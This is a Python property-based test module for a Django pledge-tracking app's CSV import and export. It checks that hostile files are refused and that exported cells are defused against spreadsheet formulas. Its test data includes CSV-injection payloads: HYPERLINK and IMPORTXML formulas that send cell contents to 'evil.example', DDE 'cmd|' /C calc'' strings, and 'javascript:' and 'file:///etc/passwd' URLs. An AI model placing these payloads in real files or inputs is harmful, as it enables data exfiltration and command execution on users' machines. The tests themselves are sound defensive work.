"""Properties of `import_pledges` on hostile files (Hypothesis): whatever the bytes, an invalid
file imports nothing, names its bad lines and leaves the database as it was; text that a
spreadsheet would run as a formula never leaves in a runnable form, and comes back unchanged.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from django.db import transaction
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from pledges.interchange import COLUMNS
from pledges.models import (
    Company,
    CompanyAlias,
    Pledge,
    PledgeLocation,
    PledgeSource,
    Source,
    StatusUpdate,
)
from pledges.selectors import export_records
from pledges.services.exports import csv_lines
from pledges.services.imports import CSV_FIELD_LIMIT, InvalidFile, import_pledges

pytestmark = pytest.mark.django_db

PROPERTY = settings(
    max_examples=60,
    deadline=None,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Text a person could type: no NUL (refused, tested apart) and no lone surrogates.
TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"),
    max_size=40,
)


def row(n: int, **cells: str) -> dict[str, str]:
    """A valid pledge row number `n`; `cells` override columns."""
    base = {
        "ref": f"p{n:04d}",
        "company": f"Company {n % 3}",
        "company_country": "US",
        "title": f"Company {n % 3} promises {n + 1}00 jobs",
        "announced_on": "2017-01-09",
        "announced_by": "A spokesperson",
        "made_to": "",
        "jobs_promised": f"{n + 1}00",
        "jobs_kind": "direct",
        "investment_usd": "",
        "locations": "US-WI; Racine",
        "deadline": "2020-12-31",
        "status": "announced",
        "status_on": "",
        "summary": "",
        "source_urls": f"https://news.example.org/{n}",
    }
    return {**base, **cells}


def to_csv(rows: list[dict[str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    writer.writerows([r[c] for c in COLUMNS] for r in rows)
    return out.getvalue().encode()


def export() -> str:
    return "".join(csv_lines(export_records()))


def database_state() -> tuple[object, ...]:
    counts = tuple(
        model.objects.count()
        for model in (
            Company,
            CompanyAlias,
            Pledge,
            PledgeLocation,
            PledgeSource,
            Source,
            StatusUpdate,
            Pledge.history.model,
        )
    )
    return (*counts, export())


@contextmanager
def rolled_back() -> Iterator[None]:
    """Run one example in a savepoint that is undone, so examples do not see each other."""
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


@pytest.fixture
def existing() -> tuple[object, ...]:
    """Pledges already in the database, which a refused import must leave exactly as they are."""
    import_pledges(to_csv([row(n) for n in range(900, 903)]))
    return database_state()


def refused(data: bytes) -> list[tuple[int, str, str]]:
    with pytest.raises(InvalidFile) as exc:
        import_pledges(data)
    report = exc.value.report
    assert report.errors and report.total_errors >= len(report.errors)
    assert all(error.line >= 1 and error.column and error.message for error in report.errors)
    return [(error.line, error.column, error.message) for error in report.errors]


# --- any bytes at all ------------------------------------------------------------------------


@PROPERTY
@given(data=st.binary(max_size=3000))
def test_import_random_bytes_are_refused_and_change_nothing(existing, data: bytes) -> None:  # type: ignore[no-untyped-def]
    refused(data)
    assert database_state() == existing


@PROPERTY
@given(body=st.binary(max_size=3000), bom=st.booleans())
def test_import_random_bytes_after_a_good_header_are_refused_and_change_nothing(  # type: ignore[no-untyped-def]
    existing, body: bytes, bom: bool
) -> None:
    header = ",".join(COLUMNS).encode() + b"\r\n"
    refused((b"\xef\xbb\xbf" if bom else b"") + header + body)
    assert database_state() == existing


@PROPERTY
@given(body=st.text(max_size=1500))
def test_import_random_text_after_a_good_header_is_refused_and_changes_nothing(  # type: ignore[no-untyped-def]
    existing, body: str
) -> None:
    header = ",".join(COLUMNS) + "\r\n"
    refused((header + body).encode("utf-8", "surrogatepass"))
    assert database_state() == existing


# --- one bad line among good ones -------------------------------------------------------------

NOT_A_DATE = st.sampled_from(
    ["2017-02-30", "2017-13-01", "17-01-09", "2017/01/09", "9 Jan 2017", "2017-1-9", "０１"]
)
NOT_A_WHOLE_NUMBER = st.sampled_from(
    ["-5", "1.5", "1e6", "12,34", "0x10", "1 000", "9" * 40, "١٢٣", "+7"]
)
BAD_URLS = st.sampled_from(
    [
        "ftp://example.org/a",
        "javascript:alert(1)",
        "file:///etc/passwd",
        "gopher://example.org/",
        "http://",
        "mailto:someone@example.org",
        "data:text/html,<script>alert(1)</script>",
    ]
)
BAD_CELLS = st.one_of(
    st.tuples(st.sampled_from(["announced_on", "deadline"]), NOT_A_DATE),
    st.tuples(st.sampled_from(["jobs_promised", "investment_usd"]), NOT_A_WHOLE_NUMBER),
    st.tuples(st.just("jobs_kind"), TEXT.filter(lambda s: s.strip() not in ("", "direct"))),
    st.tuples(st.just("status"), TEXT.filter(lambda s: s.strip() not in ("", "announced"))),
    st.tuples(st.just("company_country"), st.sampled_from(["USA", "us", "U", "1A", "ÜS"])),
    st.tuples(st.just("ref"), st.sampled_from(["-x", "a b", "é", "a/b", "_a", "x" * 65])),
    st.tuples(st.just("source_urls"), BAD_URLS),
    st.tuples(st.sampled_from(["company", "title", "announced_on", "source_urls"]), st.just("")),
    st.tuples(st.just("summary"), st.just("s" * 20_001)),
    st.tuples(st.just("title"), st.just("t" * 301)),
    st.tuples(st.just("locations"), st.just("; ".join(f"place {i}" for i in range(51)))),
    st.tuples(st.sampled_from(["title", "summary", "made_to", "ref"]), st.just("a\x00b")),
)


@PROPERTY
@given(good=st.integers(1, 5), data=st.data(), bad=BAD_CELLS)
def test_import_one_bad_cell_refuses_the_file_naming_that_line(  # type: ignore[no-untyped-def]
    existing, good: int, data: st.DataObject, bad: tuple[str, str]
) -> None:
    column, value = bad
    position = data.draw(st.integers(0, good), label="position")
    rows = [row(n) for n in range(good)]
    rows.insert(position, row(100, **{column: value}))
    errors = refused(to_csv(rows))
    assert {line for line, _, _ in errors} == {position + 2}, errors
    assert database_state() == existing


@PROPERTY
@given(good=st.integers(2, 5), data=st.data())
def test_import_duplicate_ref_refuses_the_file_naming_the_repeat(  # type: ignore[no-untyped-def]
    existing, good: int, data: st.DataObject
) -> None:
    first = data.draw(st.integers(0, good - 2), label="first")
    again = data.draw(st.integers(first + 1, good - 1), label="again")
    rows = [row(n) for n in range(good)]
    rows[again] = row(again, ref=rows[first]["ref"])
    errors = refused(to_csv(rows))
    assert errors == [
        (again + 2, "ref", f"{rows[first]['ref']!r} appears again (first on line {first + 2})")
    ]
    assert database_state() == existing


@PROPERTY
@given(
    good=st.integers(1, 4),
    data=st.data(),
    column=st.sampled_from(["company", "title", "announced_by", "made_to", "summary"]),
    junk=st.sampled_from([b"\xff", b"\xc3\x28", b"\xe9", b"\xed\xa0\x80", b"\xf8\x88\x80\x80"]),
)
def test_import_bytes_that_are_not_utf8_name_their_line(  # type: ignore[no-untyped-def]
    existing, good: int, data: st.DataObject, column: str, junk: bytes
) -> None:
    position = data.draw(st.integers(0, good), label="position")
    rows = [row(n) for n in range(good)]
    rows.insert(position, row(100, **{column: "MARK"}))
    errors = refused(to_csv(rows).replace(b"MARK", b"x" + junk + b"y"))
    assert errors == [(position + 2, column, "is not valid UTF-8 text (save the file as UTF-8)")]
    assert database_state() == existing


def test_import_cell_beyond_the_csv_field_limit_is_refused_by_line(existing) -> None:  # type: ignore[no-untyped-def]
    rows = [row(0), row(1, summary="s" * (CSV_FIELD_LIMIT + 1)), row(2)]
    errors = refused(to_csv(rows))
    assert [line for line, _, _ in errors] == [3]
    assert database_state() == existing


def test_import_row_with_more_cells_than_the_header_is_refused_by_line(existing) -> None:  # type: ignore[no-untyped-def]
    data = to_csv([row(0), row(1), row(2)]).replace(b"/1\r\n", b"/1,extra\r\n")
    assert refused(data) == [(3, "file", "has 17 cells but the header has 16")]
    assert database_state() == existing


# --- whole files in the wrong encoding --------------------------------------------------------


# UTF-7 is not here: it is plain ASCII, which reads as (odd) UTF-8 text.
@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16", "utf-16-le", "utf-32"])
def test_import_file_in_another_encoding_is_refused(existing, encoding: str) -> None:  # type: ignore[no-untyped-def]
    rows = [row(0), row(1, title="Société Générale promet 500 emplois"), row(2)]
    data = to_csv(rows).decode().encode(encoding)
    errors = refused(data)
    if encoding in ("latin-1", "cp1252"):
        assert errors == [(3, "title", "is not valid UTF-8 text (save the file as UTF-8)")]
    assert database_state() == existing


@pytest.mark.parametrize(
    "bom", [b"\xef\xbb\xbf\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"\x00\x00\xfe\xff"]
)
def test_import_foreign_or_doubled_byte_order_marks_are_refused(existing, bom: bytes) -> None:  # type: ignore[no-untyped-def]
    errors = refused(bom + to_csv([row(0)]))
    assert errors[0][0] == 1
    assert database_state() == existing


# --- formulas ---------------------------------------------------------------------------------

FORMULA = st.tuples(
    st.sampled_from(
        [
            "=",
            "+",
            "-",
            "@",
            "\t=",
            "\r=",
            "'=",
            '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
            "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
        ]
    ),
    TEXT,
).map("".join)


@PROPERTY
@given(
    title=FORMULA,
    company=FORMULA,
    announced_by=FORMULA,
    made_to=FORMULA,
    summary=FORMULA,
    place=FORMULA,
)
def test_export_never_starts_a_text_cell_with_a_formula_and_round_trips(  # type: ignore[no-untyped-def]
    title: str, company: str, announced_by: str, made_to: str, summary: str, place: str
) -> None:
    cells = {
        "title": title,
        "company": company,
        "announced_by": announced_by,
        "made_to": made_to,
        "summary": summary,
        "locations": place.replace(";", ","),
    }
    assume(all(value.strip() for value in cells.values()))
    assume(all(len(value) <= 200 for value in cells.values()))
    with rolled_back():
        import_pledges(to_csv([row(0, **cells)]))
        exported = export()
        for record in list(csv.reader(io.StringIO(exported)))[1:]:
            for cell in record:
                assert not cell.startswith(FORMULA_STARTS), cell
        for model in (StatusUpdate, Pledge, Source, CompanyAlias, Company):
            model.objects.all().delete()
        import_pledges(exported.encode())
        assert export() == exported
